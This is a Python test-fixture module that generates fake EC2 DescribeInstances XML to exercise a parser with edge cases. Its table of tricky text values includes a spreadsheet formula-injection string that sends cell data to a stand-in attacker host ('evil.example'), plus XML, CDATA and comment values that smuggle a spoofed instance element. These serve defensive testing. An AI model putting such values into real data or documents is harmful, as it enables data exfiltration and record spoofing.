"""Instances as DescribeInstances would write them, made from botocore's own model of EC2: whatever it may say, and how.

    instance({"InstanceType": "m5.large", "Tags": [{"Key": "Name", "Value": "web"}]})    # one `<item>` element
    page([Reserved([instance(everything())])], token="next")                            # a whole document
    dict(cases())                                                                       # every case by its name

Values are the text that stands in the XML (`Markup` where it is not to be escaped), mappings and lists. Members are
named as botocore names them and written as its model says.
"""

from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import escape

from botocore.model import ListShape, Shape, StructureShape

from app.aws.session import service_model

NAMESPACE = "http://ec2.amazonaws.com/doc/2016-11-15/"
OPERATION = service_model("ec2").operation_model("DescribeInstances")
INSTANCE = service_model("ec2").shape_for("Instance")
assert isinstance(INSTANCE, StructureShape)

Members = Mapping[str, Any]


class Markup(str):
    """Text that is XML already."""


@dataclass(frozen=True)
class Style:
    """How the same is written: with line ends and so much indentation or without, and with what list tags."""

    indent: str = ""
    item: str = "<item>"
    id_first: bool = True


COMPACT, PRETTY = Style(), Style(indent="    ")


@dataclass(frozen=True)
class Reserved:
    """The instances of one reservation, as text, and what started them."""

    instances: Sequence[str]
    reservation_id: str = "r-0123456789abcdef0"
    owner_id: str = "123456789012"
    requester_id: str = ""


# --- writing -----------------------------------------------------------------------------------------------


def instance(members: Members, style: Style = COMPACT, extra: str = "") -> str:
    """The `<item>` of one instance; its id is made up where `members` has none. `extra` is XML to add at its end."""
    ordered = {"InstanceId": "i-0123456789abcdef0", **members}
    if not style.id_first:
        ordered["InstanceId"] = ordered.pop("InstanceId")
    return _list_item(ordered, INSTANCE, style, 4, extra)


def page(
    reservations: Sequence[Reserved],
    style: Style = COMPACT,
    *,
    token: str | None = None,
    request_id: str = "59dbff89-35bd-4eac-99ed-be587EXAMPLE",
) -> bytes:
    """The whole document."""
    gap = f"\n{style.indent}" if style.indent else ""
    inside = "".join(_reservation(reserved, style) for reserved in reservations)
    following = f"{gap}<nextToken>{escape(token)}</nextToken>" if token else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<DescribeInstancesResponse xmlns="{NAMESPACE}">{gap}<requestId>{request_id}</requestId>{gap}'
        f"<reservationSet>{inside}{gap}</reservationSet>"
        f"{following}{gap[:1]}</DescribeInstancesResponse>"
    ).encode()


def _reservation(reserved: Reserved, style: Style) -> str:
    outer, inner = _gap(style, 2), _gap(style, 3)
    requester = f"{inner}<requesterId>{reserved.requester_id}</requesterId>" if reserved.requester_id else ""
    return (
        f"{outer}<item>{inner}<reservationId>{reserved.reservation_id}</reservationId>"
        f"{inner}<ownerId>{reserved.owner_id}</ownerId>{inner}<groupSet/>"
        f"{inner}<instancesSet>{''.join(reserved.instances)}{inner}</instancesSet>{requester}{outer}</item>"
    )


def _write(name: str, value: Any, shape: Shape, style: Style, depth: int) -> str:
    tag, gap = shape.serialization.get("name", name), _gap(style, depth)
    if isinstance(value, str):
        return f"{gap}<{tag}>{_text(value)}</{tag}>"
    if not value:
        return f"{gap}<{tag}/>"
    if isinstance(shape, ListShape):
        inside = "".join(_list_item(item, shape.member, style, depth + 1) for item in value)
    else:
        inside = _members(value, shape, style, depth + 1)
    return f"{gap}<{tag}>{inside}{gap}</{tag}>"


def _list_item(value: Any, shape: Shape, style: Style, depth: int, extra: str = "") -> str:
    gap = _gap(style, depth)
    inside = _text(value) if isinstance(value, str) else _members(value, shape, style, depth + 1) + extra + gap
    return f"{gap}{style.item}{inside}</item>"


def _members(value: Members, shape: Shape, style: Style, depth: int) -> str:
    assert isinstance(shape, StructureShape)
    return "".join(_write(name, inner, shape.members[name], style, depth) for name, inner in value.items())


def _text(value: str) -> str:
    return value if isinstance(value, Markup) else escape(value).replace("\r", "&#13;")


def _gap(style: Style, depth: int) -> str:
    return "\n" + style.indent * depth if style.indent else ""


# --- what AWS may say --------------------------------------------------------------------------------------

IDS = {"InstanceId": "i-0123456789abcdef0"}
PLAIN = {"string": "some text", "integer": "2", "boolean": "true", "timestamp": "2026-11-01T08:00:00.000Z"}


def everything(shape: Shape = INSTANCE, name: str = "") -> Any:
    """A value for every member in the model; lists have two different ones."""
    if isinstance(shape, StructureShape):
        return {inner: everything(member, f"{name}{inner}") for inner, member in shape.members.items()} | (
            IDS if shape is INSTANCE else {}
        )
    if isinstance(shape, ListShape):
        return [everything(shape.member, f"{name}{number}") for number in (1, 2)]
    known = list(getattr(shape, "enum", ()))
    return known[0] if known else f"{name} text" if shape.type_name == "string" else PLAIN[shape.type_name]


#: Text that goes wrong where somebody did not think of it.
TEXTS = {
    "empty": "",
    "blank": "   ",
    "line ends and tabs": " \t\r\n one \n two\t",
    "markup": "<item><instanceId>i-evil</instanceId></item>",
    "every character that means something": "<>&\"'",
    "entities already": "&amp;lt;&#65;",
    "quotes": 'it\'s "quoted"',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "256 characters": "ü" * 256,
    "right to left": "\u202e\u05e9\u05dc\u05d5\u05dd\u202c \u0645\u0631\u062d\u0628\u0627",
    "emoji": "👩\u200d🚀🇪🇺🙂",
    "combined": "e\u0301 é \u212b",
    "wide": "全角\u3000空白",
    "private": "\ue000\U0010fffd",
    "marks": "!?" * 100,
    "numbers": Markup("&#65;&#x1F642;&#233;&#32;&#9;&#10;&#13;"),
    "a number for a blank": Markup("&#32;"),
    "section": Markup("<![CDATA[<instanceId>i-evil</instanceId> & ]]>"),
    "section and text": Markup("a<![CDATA[<b>]]>c<![CDATA[]]>"),
    "comment": Markup("before<!-- <instanceId>i-evil</instanceId> -->after"),
    "comment alone": Markup("<!-- nothing -->"),
    "instruction": Markup("a<?php echo 1 ?>b"),
}
BOOLEANS = ("true", "false", "TRUE", "1", "0", "", " true ", "yes")
INTEGERS = ("0", "-1", "007", "+5", " 7 ", "2147483647", "-2147483648")
TIMES = (
    "2026-11-01T08:00:00.000Z",
    "2026-11-01T08:00:00Z",
    "2026-11-01T08:00:00.123Z",
    "2026-11-01T08:00:00.123456Z",
    "2026-11-01T08:00:00+00:00",
    "2026-11-01T08:00:00-07:00",
    "2026-11-01T08:00:00.5+0530",
    "2026-11-01T08:00:00",
    "1970-01-01T00:00:00.000Z",
    "9999-12-31T23:59:59.999Z",
)
#: What botocore takes for neither a number nor a time.
NO_INTEGERS = ("", "two", "1.5", "0x10", "1e3")
NO_TIMES = ("", "soon", "2026-13-01T08:00:00.000Z", "2026-02-30T08:00:00.000Z", "0001-01-01T00:00:00+14:00")


def tags(**named: str) -> list[dict[str, str]]:
    return [{"Key": key, "Value": value} for key, value in named.items()]


def cases() -> Iterator[tuple[str, str]]:
    """Every case by its name: one instance each."""
    yield "everything", instance(everything())
    yield "everything, indented", instance(everything(), PRETTY)
    yield "everything, backwards", instance(_reversed(everything()))
    yield "everything, its id last", instance(everything(), Style(id_first=False))
    yield "everything, with room in its tags", instance(everything(), Style(item="<item >"))
    yield "nothing", instance({})
    yield "nothing, indented", instance({}, PRETTY)
    whole = everything()
    for name in sorted(INSTANCE.members.keys() - IDS):
        yield f"{name} alone", instance({name: whole[name]})
        if INSTANCE.members[name].type_name not in {"integer", "timestamp"}:
            yield f"{name} empty", instance({name: ""})
        if getattr(INSTANCE.members[name], "enum", ()):
            yield f"{name} of tomorrow", instance({name: "quantum-entangled"})
    yield from _structured_cases()
    yield from _text_cases()
    yield from _scalar_cases()


def _structured_cases() -> Iterator[tuple[str, str]]:
    news = "<quantum><item><partner>i-2</partner></item></quantum><spin/>"
    yield "elements of tomorrow", instance(everything(), extra=news)
    inner = Markup("<item><networkInterfaceId>eni-1</networkInterfaceId><color>red</color><lane><item/></lane></item>")
    yield "an element of tomorrow within", instance({"NetworkInterfaces": inner})
    yield "a state of tomorrow", instance({"State": {"Code": "272", "Name": "hibernating"}})
    yield "empty members of lists", instance({"NetworkInterfaces": [{}, {}], "SecurityGroups": [{}], "Tags": [{}]})
    yield "empty structures", instance({"State": {}, "Placement": {}, "CpuOptions": {}, "Operator": {}})
    many = [{"Key": f"key {number}", "Value": f"value {number}"} for number in range(3000)]
    yield "thousands of tags", instance({"Tags": many})
    yield "thousands of tags, indented", instance({"Tags": many}, PRETTY)
    yield "a tag without a value", instance({"Tags": [*tags(a="1"), {"Key": "bare"}, *tags(z="2")]})
    yield "a tag without a key", instance({"Tags": [{"Value": "of nothing"}]})
    yield "two tags that look like one another's rest", instance({"Tags": [{"Key": "a"}, {"Key": "b", "Value": "2"}]})
    yield "a tag backwards", instance({"Tags": [{"Value": "1", "Key": "a"}, *tags(b="2")]})
    yield "tags backwards by two", instance({"Tags": [{"Key": "a"}, {"Value": "1"}]})
    yield "one tag twice", instance({"Tags": [*tags(a="1", b="2"), *tags(a="3")]})
    more = "<item><key>a</key><value>1</value><propagated><value>no</value></propagated></item>"
    yield "more in a tag", instance({"Tags": Markup(more)})
    yield "tags named alike", instance({"Tags": tags(Key="key", key="Key", value="value")})


def _text_cases() -> Iterator[tuple[str, str]]:
    for name, text in TEXTS.items():
        tagged = [{"Key": f"{name}", "Value": text}, *tags(Name="web")]
        interfaces = [{"NetworkInterfaceId": "eni-1", "Description": text}]
        reason = {"Code": "Client.Unknown", "Message": text}
        members = {"Tags": tagged, "NetworkInterfaces": interfaces, "StateReason": reason, "KeyName": text}
        yield f"text: {name}", instance(members)
        yield f"text: {name}, indented", instance(members, PRETTY)
        yield f"text: {name}, as a key", instance({"Tags": [{"Key": text, "Value": text}]})


def _scalar_cases() -> Iterator[tuple[str, str]]:
    for text in BOOLEANS:
        yield f"boolean: {text!r}", instance({"EbsOptimized": text, "HibernationOptions": {"Configured": text}})
    for text in INTEGERS:
        yield f"integer: {text!r}", instance({"AmiLaunchIndex": text, "CpuOptions": {"CoreCount": text}})
    for text in TIMES:
        attached = [{"DeviceName": "/dev/xvda", "Ebs": {"AttachTime": text, "VolumeId": "vol-1"}}]
        yield f"time: {text}", instance({"LaunchTime": text, "BlockDeviceMappings": attached})


def _reversed(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _reversed(inner) for name, inner in reversed(value.items())}
    return [_reversed(inner) for inner in reversed(value)] if isinstance(value, list) else value
